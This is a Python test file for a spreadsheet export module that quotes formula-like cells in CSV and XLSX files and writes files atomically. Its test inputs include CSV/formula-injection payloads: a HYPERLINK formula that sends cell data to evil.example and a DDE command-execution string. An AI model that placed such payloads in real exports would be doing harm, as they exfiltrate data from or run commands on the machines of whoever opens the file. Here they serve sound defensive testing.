"""The safe writer: no live formula in a CSV or XLSX export, and atomic files."""
from __future__ import annotations

import csv
import io
import os
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.storage import safe_export
from app.storage.errors import ExportError
from app.storage.safe_export import atomic_file, csv_cell, neutralise, restore, write_csv, write_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
           "\tindent", "\rcarriage", "=1", "'=already quoted"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_like_text_gets_a_leading_quote(text):
    out = neutralise(text)
    assert out == "'" + text
    assert restore(out) == text


@pytest.mark.parametrize("text", ["Kamstrup", "00100076", "", "'quoted by the user", "a=b", "x-1", "'", "''"])
def test_plain_text_is_left_as_it_is(text):
    assert neutralise(text) == text
    assert restore(text) == text


@given(st.text())
def test_restore_undoes_neutralise_for_any_text(text):
    assert restore(neutralise(text)) == text
    out = neutralise(text)
    assert not out or out[0] not in safe_export.FORMULA_TRIGGERS


def test_numbers_in_numeric_columns_are_not_touched():
    assert csv_cell("-5.2", numeric=True) == "-5.2"
    assert csv_cell("+1e-3", numeric=True) == "+1e-3"
    assert csv_cell("-5.2") == "'-5.2"                      # a text column: quoted
    assert csv_cell("=1+1", numeric=True) == "'=1+1"         # not a number: quoted even there
    assert csv_cell(-3) == "-3" and csv_cell(-0.5) == "-0.5"  # Python numbers are numbers


def test_csv_file_has_no_live_formula_and_reads_back(tmp_path):
    p = tmp_path / "out.csv"
    rows = [[t, "-1.5", "x"] for t in HOSTILE]
    assert write_csv(p, ["text", "temp_c", "other"], rows, numeric={"temp_c"}) == len(HOSTILE)
    with open(p, newline="", encoding="utf-8") as f:
        back = list(csv.reader(f))
    assert back[0] == ["text", "temp_c", "other"]
    for (t, num, _o), (bt, bnum, _bo) in zip(rows, back[1:]):
        assert bt[0] == "'" and restore(bt) == t
        assert bnum == num


def test_csv_on_a_stream_is_written_as_it_goes():
    buf = io.StringIO()
    write_csv(buf, ["a"], [["=1"]], lineterminator="\n")
    assert buf.getvalue() == "a\n'=1\n"


def _sheet_xml(path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_xlsx_writes_text_as_string_cells_never_formulas(tmp_path):
    import openpyxl

    p = tmp_path / "out.xlsx"
    rows = [[t, "-1.5", "00100076"] for t in HOSTILE + ["#N/A", "#DIV/0!"]]
    write_xlsx(p, ["text", "temp_c", "serial"], rows, numeric={"temp_c"})
    xml = _sheet_xml(p)
    assert "<f>" not in xml and "<f " not in xml and 't="e"' not in xml
    wb = openpyxl.load_workbook(p, read_only=True)
    try:
        got = [list(r) for r in wb.worksheets[0].iter_rows(values_only=True)]
    finally:
        wb.close()
    assert got[0] == ["text", "temp_c", "serial"]
    for want, have in zip(rows, got[1:]):
        assert safe_export.xlsx_unescape(have[0]) == want[0]  # the text exactly, as a string cell
        assert have[1] == -1.5                # a number cell
        assert have[2] == "00100076"          # text keeps its leading zeros


def test_xlsx_refuses_a_cell_it_cannot_hold_and_keeps_the_earlier_file(tmp_path):
    p = tmp_path / "out.xlsx"
    p.write_bytes(b"earlier")
    with pytest.raises(ExportError, match="row 3, column notes: 40,000 characters"):
        write_xlsx(p, ["notes"], [["ok"], ["x" * 40000]])
    with pytest.raises(ExportError, match="control character"):
        write_xlsx(p, ["notes"], [["bell\x07"]])
    assert p.read_bytes() == b"earlier"
    assert os.listdir(tmp_path) == ["out.xlsx"]


def test_a_failure_midway_leaves_the_earlier_file_and_no_partial_file(tmp_path):
    p = tmp_path / "out.csv"
    p.write_text("earlier\n")

    def rows():
        yield ["a"]
        raise RuntimeError("the database went away")

    with pytest.raises(RuntimeError):
        write_csv(p, ["h"], rows())
    assert p.read_text() == "earlier\n"
    assert os.listdir(tmp_path) == ["out.csv"]


def test_an_os_error_is_one_line_export_error(tmp_path):
    with pytest.raises(ExportError, match=r"cannot write .*missing.*out\.csv: No such file or directory"):
        write_csv(tmp_path / "missing" / "out.csv", ["h"], [])
    (tmp_path / "ro").mkdir()
    os.chmod(tmp_path / "ro", 0o500)
    try:
        if os.access(tmp_path / "ro", os.W_OK):
            pytest.skip("running as a user who may write anywhere")
        with pytest.raises(ExportError, match="Permission denied"):
            write_csv(tmp_path / "ro" / "out.csv", ["h"], [])
    finally:
        os.chmod(tmp_path / "ro", 0o700)


@given(st.text())
def test_xlsx_escape_round_trips(text):
    assert safe_export.xlsx_unescape(safe_export.xlsx_escape(text)) == text
    assert "\r" not in safe_export.xlsx_escape(text)


def test_atomic_file_replaces_in_one_step(tmp_path):
    p = tmp_path / "f.bin"
    p.write_bytes(b"old")
    with atomic_file(p, "wb") as f:
        f.write(b"new")
        assert p.read_bytes() == b"old"  # not yet
    assert p.read_bytes() == b"new"
    assert os.listdir(tmp_path) == ["f.bin"]


def test_a_device_or_pipe_is_written_never_replaced(tmp_path):
    """``--csv /dev/null`` or a named pipe: written to, never renamed over (that would replace the device)."""
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    import threading

    got = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
    reader.start()
    write_csv(fifo, ["a"], [["=1"]], lineterminator="\n")
    reader.join(timeout=10)
    assert got == [b"a\n'=1\n"] and fifo.is_fifo()
    write_csv(os.devnull, ["a"], [["x"]])
    assert os.path.exists(os.devnull) and not os.path.isfile(os.devnull)
    with pytest.raises(ExportError, match="it is a folder"):
        write_csv(tmp_path, ["a"], [])


def test_a_symbolic_link_is_followed(tmp_path):
    real = tmp_path / "real.csv"
    real.write_text("old\n")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    write_csv(link, ["a"], [["b"]], lineterminator="\n")
    assert link.is_symlink() and real.read_text() == "a\nb\n"
